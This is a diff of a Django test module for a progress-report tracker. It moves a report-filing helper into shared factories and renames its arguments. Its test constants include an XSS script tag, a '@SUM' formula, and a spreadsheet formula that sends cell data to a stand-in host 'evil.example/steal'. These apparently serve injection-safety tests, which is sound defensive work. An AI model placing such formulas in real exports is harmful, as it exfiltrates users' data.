@@ -4,54 +4,16 @@ a delayed one, text with markup and a formula in it, and the cycle before it."""
 
 import datetime
 from dataclasses import dataclass
-from decimal import Decimal
 
 import pytest
-import time_machine
 from django.utils import timezone
 
 from ammtc_tracker.models import Role
 from priorities.models import Consultation
-from reports.models import ProgressReport
-from reports.services import save_report, start_report
-from tests.factories import make_activity, make_cycle, make_user
+from tests.factories import file_report, make_activity, make_cycle, make_user
 
 SCRIPT = "<script>alert('x')</script>"
 FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'
-
-
-def file_report(official, activity, cycle, state, reviewer=None, *, late=False, **content):
-    """A report of ``official``'s party moved to ``state`` through the workflow."""
-    report = start_report(user=official, activity=activity, cycle=cycle)
-    values = {
-        indicator.pk: (Decimal(content.pop("value", 4)), "")
-        for indicator in activity.indicators.all()
-    }
-    fields = {
-        "implementation_status": "in_progress",
-        "percent_complete": 40,
-        "achievements": "Two workshops held.",
-        "challenges": "",
-        "next_steps": "",
-        **content,
-    }
-    report = save_report(
-        report=report,
-        user=official,
-        content=fields,
-        indicator_values=values,
-        expected_version=report.version,
-    )
-    if state == "draft":
-        return report
-    day = cycle.deadline + datetime.timedelta(days=3) if late else timezone.localdate()
-    with time_machine.travel(day):
-        report.transition(ProgressReport.Action.SUBMIT, by=official)
-    if state == "accepted":
-        report.transition(ProgressReport.Action.ACCEPT, by=reviewer)
-    elif state == "returned":
-        report.transition(ProgressReport.Action.RETURN, by=reviewer, comment="Add figures.")
-    return report
 
 
 @dataclass
@@ -87,15 +49,15 @@ def meeting(plan, official_id, official_jp, official_th, secretariat):
         period_start=datetime.date(today.year - 2, 7, 1),
         period_end=datetime.date(today.year - 1, 6, 30),
     )
-    file_report(official_id, a["1.1"], previous, "accepted", secretariat, percent_complete=10)
+    file_report(official_id, a["1.1"], previous, "accepted", secretariat, percent=10)
     file_report(
         official_jp,
         a["2.1"],
         previous,
         "accepted",
         secretariat,
-        implementation_status="not_started",
-        percent_complete=0,
+        status="not_started",
+        percent=0,
     )
     cycle = make_cycle(plan, title="This year")
     file_report(
@@ -109,17 +71,17 @@ def meeting(plan, official_id, official_jp, official_th, secretariat):
         next_steps="@SUM(1+1)",
         value=25,
     )
-    file_report(official_jp, a["1.1"], cycle, "submitted", percent_complete=20, value=7)
+    file_report(official_jp, a["1.1"], cycle, "submitted", percent=20, value=7)
     file_report(
         official_jp,
         a["2.1"],
         cycle,
         "returned",
         secretariat,
-        implementation_status="delayed",
-        percent_complete=5,
+        status="delayed",
+        percent=5,
     )
-    file_report(official_id, a["3.1"], cycle, "draft", percent_complete=50)
+    file_report(official_id, a["3.1"], cycle, "draft", percent=50)
     file_report(
         official_jp,
         a["3.1"],
@@ -127,8 +89,8 @@ def meeting(plan, official_id, official_jp, official_th, secretariat):
         "accepted",
         secretariat,
         late=True,
-        implementation_status="completed",
-        percent_complete=100,
+        status="completed",
+        percent=100,
         achievements="Handbook published.",
     )
     file_report(
@@ -137,8 +99,8 @@ def meeting(plan, official_id, official_jp, official_th, secretariat):
         cycle,
         "accepted",
         secretariat,
-        implementation_status="delayed",
-        percent_complete=15,
+        status="delayed",
+        percent=15,
         achievements="Venue booked.",
         challenges="Funding arrived late.",
     )
